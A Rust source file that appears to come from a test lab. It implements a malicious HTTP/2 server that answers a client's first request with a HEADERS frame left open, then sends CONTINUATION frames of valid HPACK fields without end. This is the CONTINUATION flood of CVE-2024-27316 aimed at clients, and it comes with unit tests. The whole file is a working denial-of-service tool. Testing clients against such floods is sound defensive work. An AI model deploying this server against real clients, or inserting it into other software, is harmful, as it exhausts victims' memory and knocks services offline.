//! An HTTP/2 server that never finishes its answer's headers: after the client's preface and
//! first HEADERS frame it answers with a HEADERS frame without END_HEADERS, then CONTINUATION
//! frames of valid header fields for as long as the client reads (the "CONTINUATION flood" of
//! CVE-2024-27316 and its kin, turned at a client). A client that does not cap the header list
//! it is sent keeps buffering it.
//!
//! Frames are written by hand (RFC 9113 §4.1): a 9-byte header, then the payload. Only what the
//! flood needs is here; it reads the client's frames just far enough to learn the stream id.

use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::time::{timeout, timeout_at, Instant};

/// What every h2 connection opens with (RFC 9113 §3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;
const ACK: u8 = 0x1;
/// The largest payload a peer must accept before SETTINGS says otherwise (RFC 9113 §4.2).
const MAX_FRAME: usize = 16_384;
/// The most client bytes read while looking for its first HEADERS frame.
const MAX_CLIENT_BYTES: usize = 64 * 1024;
const WRITE_TIMEOUT: Duration = Duration::from_secs(5);

/// One frame: header and payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A CONTINUATION payload of whole header fields, each a literal without indexing with a new
/// name (HPACK §6.2.2): valid HPACK, so a client that decodes as it goes sees a header list
/// that only grows.
fn continuation_payload() -> Vec<u8> {
    let name = b"x-lab-flood";
    let value = [b'f'; 100];
    let mut field = vec![0x00, name.len() as u8];
    field.extend_from_slice(name);
    field.push(value.len() as u8);
    field.extend_from_slice(&value);
    let mut payload = Vec::with_capacity(MAX_FRAME);
    while payload.len() + field.len() <= MAX_FRAME {
        payload.extend_from_slice(&field);
    }
    payload
}

/// The id of the first HEADERS frame in `bytes` (after the preface), if one is complete.
fn first_headers_stream(bytes: &[u8]) -> Option<u32> {
    let mut rest = bytes.strip_prefix(PREFACE)?;
    while rest.len() >= 9 {
        let len = u32::from_be_bytes([0, rest[0], rest[1], rest[2]]) as usize;
        let stream = u32::from_be_bytes([rest[5], rest[6], rest[7], rest[8]]) & 0x7fff_ffff;
        if rest[3] == HEADERS {
            return Some(stream);
        }
        rest = rest.get(9 + len..)?;
    }
    None
}

/// Serve one h2 connection with the flood: wait (up to `read_timeout`) for the client's first
/// request, then send header fragments until the client leaves, stops reading, or `give_up`.
pub async fn flood<S: AsyncRead + AsyncWrite + Unpin>(
    mut stream: S,
    read_timeout: Duration,
    give_up: Duration,
) {
    let deadline = Instant::now() + read_timeout;
    let mut seen = Vec::new();
    let mut chunk = [0u8; 4096];
    let stream_id = loop {
        if let Some(id) = first_headers_stream(&seen) {
            break id;
        }
        if seen.len() > MAX_CLIENT_BYTES {
            return;
        }
        match timeout_at(deadline, stream.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => seen.extend_from_slice(&chunk[..n]),
            _ => return,
        }
    };
    let mut opening = frame(SETTINGS, 0, 0, &[]);
    opening.extend(frame(SETTINGS, ACK, 0, &[]));
    // `:status: 200` (HPACK static index 8), and no END_HEADERS: the head stays open.
    opening.extend(frame(HEADERS, 0, stream_id, &[0x88]));
    let continuation = frame(CONTINUATION, 0, stream_id, &continuation_payload());
    let end = Instant::now() + give_up;
    let mut next = opening;
    while Instant::now() < end {
        match timeout(WRITE_TIMEOUT, stream.write_all(&next)).await {
            Ok(Ok(())) => next.clone_from(&continuation),
            _ => return,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_the_nine_byte_header() {
        let f = frame(CONTINUATION, 0, 3, b"abc");
        assert_eq!(&f[..9], &[0, 0, 3, CONTINUATION, 0, 0, 0, 0, 3]);
        assert_eq!(&f[9..], b"abc");
    }

    #[test]
    fn finds_the_first_headers_frame_after_settings() {
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[0; 6]));
        assert_eq!(first_headers_stream(&bytes), None);
        bytes.extend(frame(HEADERS, 0x5, 1, &[0x82]));
        assert_eq!(first_headers_stream(&bytes), Some(1));
        assert_eq!(first_headers_stream(b"GET / HTTP/1.1\r\n"), None);
    }

    #[test]
    fn continuation_payload_fits_one_frame_and_is_whole_fields() {
        let payload = continuation_payload();
        assert!(payload.len() <= MAX_FRAME && payload.len() > MAX_FRAME - 120);
        assert_eq!(payload.len() % (1 + 1 + 11 + 1 + 100), 0);
    }
}
